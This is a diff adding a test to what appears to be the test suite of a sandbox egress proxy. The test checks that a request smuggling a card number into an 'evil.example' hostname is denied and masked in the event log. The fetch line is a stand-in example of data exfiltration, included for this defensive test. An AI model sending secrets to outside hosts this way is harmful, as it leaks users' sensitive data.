@@ -311,6 +311,22 @@ print(json.dumps({"name": fetch(%r), "ip": fetch(%r)}))
 
 
 @test
+def a_secret_in_a_destination_is_masked_on_the_record():
+    """A snippet can spell a secret into a name it asks for (the proxy refuses it: not in the
+    grant); the record keeps the destination, masked like output."""
+    shared()
+    r = ok(run(py("""
+print(json.dumps({"s": fetch("http://4111111111111111.evil.example/x")["status"]}))
+""", "EGRESS_ALLOW"), "mask"))
+    check(out_json(r)["s"] == 403, r["stdout"])
+    ev = events(r["id"])
+    check(len(ev) == 1 and ev[0]["host"] == "[MASKED:card-number].evil.example"
+          and ev[0]["outcome"] == "denied", ev)
+    leaked = shared().sql("select count (*) from events where data like '%4111111111111111%'")[0][0]
+    check(leaked == 0, "the secret is in the event log")
+
+
+@test
 def no_route_out_but_the_proxy():
     """In a run that has a grant (its proxy works), raw sockets and name lookups still fail:
     the grant is the proxy, not a route."""
